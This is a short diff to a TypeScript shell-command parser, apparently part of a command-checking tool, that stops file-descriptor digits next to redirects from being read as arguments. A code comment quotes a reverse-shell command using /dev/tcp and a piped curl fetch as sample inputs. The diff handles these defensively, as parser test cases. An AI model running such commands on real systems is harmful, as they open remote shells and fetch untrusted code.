@@ -35,6 +35,10 @@ function gapWords(text: string, from: number, to: number): SNode[] {
  * h 1` and `python3 </dev/null -c '…'` were allowed).
  */
 function spillDestinations(cmd: SNode, redirects: SNode[]): void {
+  // `bash -i >& /dev/tcp/h/1 0>&1`, `sh 0< <(curl …)`: digits touching the next redirect are its descriptor, not a word.
+  const starts = new Set(redirects.map((r) => r.start));
+  const fd = (w: SNode): boolean => starts.has(w.end) && /^(number|word)$/.test(w.type) && w.end - w.start <= 2 && w.children.length === 0;
+  cmd.children = cmd.children.filter((c) => !(c.field === 'argument' && c.type === 'number' && starts.has(c.end)));
   for (const r of redirects) {
     if (r.type !== 'file_redirect') continue;
     const dests = r.children.filter((c) => c.field === 'destination');
@@ -42,7 +46,7 @@ function spillDestinations(cmd: SNode, redirects: SNode[]): void {
     const extra = new Set(dests.slice(1));
     r.children = r.children.filter((c) => !extra.has(c));
     r.end = dests[0]!.end;
-    for (const w of extra) cmd.children.push({ ...w, field: 'argument' });
+    for (const w of extra) if (!fd(w)) cmd.children.push({ ...w, field: 'argument' });
     cmd.end = Math.max(cmd.end, dests.at(-1)!.end);
   }
 }
